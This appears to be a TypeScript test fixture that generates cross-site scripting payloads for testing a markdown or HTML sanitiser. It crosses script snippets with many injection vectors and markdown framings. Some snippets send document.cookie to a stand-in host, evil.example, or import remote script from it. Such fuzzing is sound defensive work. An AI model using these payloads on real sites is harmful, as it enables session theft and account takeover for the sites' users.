import { existsSync, readFileSync } from "node:fs";

/** The public attack list where it is at hand (shared data beside the checkout), and always our own product of ways in. */
const LIST = "../../shared/data/attacks/xss-payload-list.txt";

const CODE = ["alert(1)", "fetch('//evil.example/'+document.cookie)", "import('//evil.example/x.js')"];
const WAYS: ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `</script><svg/onload=${code}>`,
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<math><mi xlink:href="javascript:${code}">x</mi></math>`,
  (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  (code) => `<style>@import '//evil.example';</style><x style="x:expression(${code})">`,
  (code) => `<details open ontoggle=${code}>`,
  (code) => `<form><button formaction=javascript:${code}>x</button></form>`,
  (code) => `<base href="//evil.example/"><a href=x>${code}</a>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `javascript:${code}`,
  (code) => ` java\tscript:${code}`,
  (code) => `&#106;avascript&colon;${code}`,
  (code) => `data:text/html;base64,${btoa(`<script>${code}</script>`)}`,
  (code) => `" onmouseover="${code}`,
  (code) => `' autofocus onfocus='${code}`,
  (code) => `x](javascript:${code}) [y`,
  (code) => `x "t" onerror=${code}`,
  (code) => `https://a.example/" onclick="${code}`,
  (code) => `https://a.example/<svg onload=${code}>`,
];
const FRAMES: ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `[${attack}]: ${attack}\n[${attack}]`,
  (attack) => `![${attack}](${attack} "${attack}")`,
  (attack) => `<${attack}>`,
  (attack) => `\`\`\`${attack}\n${attack}\n\`\`\``,
  (attack) => `| ${attack} |\n|---|\n| ${attack} |`,
];

export const PAYLOADS: string[] = [
  ...CODE.flatMap((code) => WAYS.flatMap((way) => FRAMES.map((frame) => frame(way(code))))),
  ...(existsSync(LIST) ? readFileSync(LIST, "utf8").split("\n") : []),
];
